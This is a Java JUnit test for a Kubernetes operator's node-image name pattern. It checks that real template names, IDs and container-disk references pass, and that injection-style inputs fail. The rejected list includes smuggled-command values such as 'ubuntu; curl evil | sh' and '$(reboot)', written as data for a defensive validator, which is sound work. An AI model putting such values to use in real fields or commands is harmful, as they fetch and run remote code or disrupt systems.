package dev.operator.sks.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.regex.Pattern;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The schema pattern of a Nodepool's spec.template, with the names the providers really use. */
class NodeImagePatternTest {
    private static final Pattern NODE_IMAGE = Pattern.compile(Patterns.NODE_IMAGE);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Linux Ubuntu 24.04 LTS 64-bit",
                "Linux Debian 12 (Bookworm) 64-bit",
                "7f7d1a2c-9bc1-4a8e-9d1a-1f3c2b4d5e6f",
                "quay.io/capk/ubuntu-2404-container-disk:v1.33.5",
                "registry.example:5000/team/node@sha256:1b49166bd3047c7d818be67cec73f891b12db7e792dbc91809412b6be1c20ec2"
            })
    void acceptsTemplateNamesIdsAndContainerDisks(String image) {
        assertThat(NODE_IMAGE.matcher(image).matches()).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"ubuntu; curl evil | sh", " Linux Ubuntu", "Linux Ubuntu ", "ubuntu\n", "$(reboot)", "a'b"})
    void refusesWhatAShellOrAQueryCouldReadAsMore(String image) {
        assertThat(NODE_IMAGE.matcher(image).matches()).isFalse();
    }
}
